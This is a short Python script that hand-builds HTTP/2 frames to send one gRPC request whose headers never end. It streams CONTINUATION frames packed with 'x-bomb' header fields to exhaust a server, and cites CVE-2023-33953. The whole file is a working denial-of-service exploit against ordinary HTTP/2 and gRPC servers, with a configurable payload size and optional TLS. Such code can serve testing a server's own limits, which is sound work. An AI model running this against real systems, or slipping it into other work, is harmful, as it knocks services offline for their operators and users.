# SPDX-License-Identifier: Apache-2.0
"""One HTTP/2 request whose headers do not end (CVE-2023-33953): HEADERS, and CONTINUATION without end."""

import socket
import ssl

FRAME_BYTES = 16384
_HEADERS, _SETTINGS, _CONTINUATION = 1, 4, 9


def _frame(kind, flags, stream, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _text(value):
    """An HPACK string of at most 126 bytes (RFC 7541 §5.2)."""
    return bytes([len(value)]) + value


def _literal(name, value):
    """A field that nobody is to remember (RFC 7541 §6.2.2)."""
    return b"\x00" + _text(name) + _text(value)


def _request(path, authority):
    fields = [(b":method", b"POST"), (b":scheme", b"https"), (b":path", path), (b":authority", authority),
              (b"te", b"trailers"), (b"content-type", b"application/grpc")]
    return b"".join(_literal(name, value) for name, value in fields)


def connect(address, ca_file):
    """A connection that speaks HTTP/2, without a certificate of its own; no `ca_file`: in clear."""
    host, port = address.rsplit(":", 1)
    if ca_file is None:
        return socket.create_connection((host, int(port)), timeout=20)
    context = ssl.create_default_context(cafile=ca_file)
    context.set_alpn_protocols(["h2"])
    connection = socket.create_connection((host, int(port)), timeout=20)
    return context.wrap_socket(connection, server_hostname=host)


def throw(address, ca_file, size):
    """Sends `size` bytes of headers, or what the other side takes of them; returns how many it took."""
    sent = 0
    field = _literal(b"x-bomb", b"b" * 100)
    filling = field * (FRAME_BYTES // len(field))
    try:
        with connect(address, ca_file) as connection:
            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0, b""))
            request = _request(b"/tokensvc.v1.TokenService/AcquireForClient", address.encode())
            connection.sendall(_frame(_HEADERS, 0, 1, request))
            while sent < size:
                connection.sendall(_frame(_CONTINUATION, 0, 1, filling))
                sent += len(filling)
            connection.sendall(_frame(_CONTINUATION, 4, 1, field))
            connection.settimeout(2)
            while connection.recv(65536):
                pass
    except (OSError, ssl.SSLError):
        pass  # Shut out, which is the point.
    return sent
